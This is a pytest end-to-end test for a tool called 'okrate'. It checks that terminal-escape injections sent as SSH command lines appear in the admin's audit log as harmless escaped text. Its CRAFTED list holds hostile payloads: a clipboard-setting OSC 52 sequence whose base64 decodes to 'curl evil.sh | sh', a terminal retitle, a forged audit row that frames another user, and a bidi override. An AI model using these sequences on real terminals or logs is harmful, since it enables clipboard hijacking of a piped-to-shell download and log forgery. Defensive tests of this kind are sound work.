"""A member's crafted command lines over the real sshd never reach the admin's terminal:
``okrate audit`` shows them as text (``U+001B``), one row per connection, and a terminal
emulator reading it keeps its title, its clipboard and its rows."""

from __future__ import annotations

import json
import subprocess
from collections.abc import Iterator
from pathlib import Path
from types import SimpleNamespace

import pytest

from tests.hostile import Terminal
from tests.server import harness

pytestmark = pytest.mark.skipif(harness.missing() is not None, reason=f"SSH end-to-end: {harness.missing()}")

CRAFTED = [
    "\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07\x1b]2;HACKED\x07",  # set the clipboard, retitle the terminal
    "task\r\x1b[2K2026-11-26 09:00:00  @maria  1  127.0.0.1  backup  ok",  # print over the row: frame maria
    "--as maria \x1b]0;pwned\x07",  # refused, and logged all the same
    "\u202etsil ksat \x9b31m",
]


@pytest.fixture(scope="module")
def srv(tmp_path_factory: pytest.TempPathFactory) -> Iterator[SimpleNamespace]:
    base = Path("/tmp") / f"okrate-e2e-hostile-{tmp_path_factory.getbasetemp().name}"
    base.mkdir(mode=0o755, exist_ok=True)
    server = harness.Server(harness.install(), base)
    try:
        assert server.init().returncode == 0
        assert server.as_account("demo").returncode == 0
        keys = {name: server.keygen(name) for name in ("maria", "jonas")}
        assert server.init("--admin", "maria", "--key", f"{keys['maria']}.pub").returncode == 0
        server.start_sshd()
        added = server.ssh(keys["maria"], "keys", "add", "jonas", "-", input=Path(f"{keys['jonas']}.pub").read_text())
        assert added.returncode == 0, added.stderr
        yield SimpleNamespace(server=server, keys=keys)
    finally:
        server.stop()


def _raw_ssh(srv: SimpleNamespace, key: str, command: str) -> subprocess.CompletedProcess:
    """The command line sent as it is, as a member's own ssh would send it."""
    args = srv.server.ssh_args(srv.keys[key])
    return subprocess.run([*args, "--", command], capture_output=True, timeout=120)


def test_a_members_crafted_commands_show_in_audit_as_text(srv: SimpleNamespace) -> None:
    for command in CRAFTED:
        sent = _raw_ssh(srv, "jonas", command)
        assert sent.returncode == 2
        assert b"\x1b]" not in sent.stderr and b"Traceback" not in sent.stderr  # the member's own error is harmless too
    audit = srv.server.ssh(srv.keys["maria"], "audit", "--person", "jonas", "--limit", str(len(CRAFTED)))
    assert audit.returncode == 0, audit.stderr
    terminal = Terminal()
    terminal.feed(audit.stdout)
    assert not terminal.problems(), terminal.problems()
    rows = audit.stdout.splitlines()
    assert len(rows) == len(CRAFTED) + 1  # the header and one row each: nothing printed over or added
    assert all("@jonas" in row for row in rows[1:])
    assert "U+001B]52;c;" in audit.stdout and "U+001B[2K2026-11-26" in audit.stdout and "U+202E" in audit.stdout
    logged = json.loads(srv.server.ssh(srv.keys["maria"], "audit", "--person", "jonas", "--json").stdout)
    for row in logged[: len(CRAFTED)]:
        for value in (row["what"], row["outcome"], row["remote"]):
            assert not any(ord(ch) < 32 or 0x7F <= ord(ch) < 0xA0 or ch in "\u202e" for ch in value), row
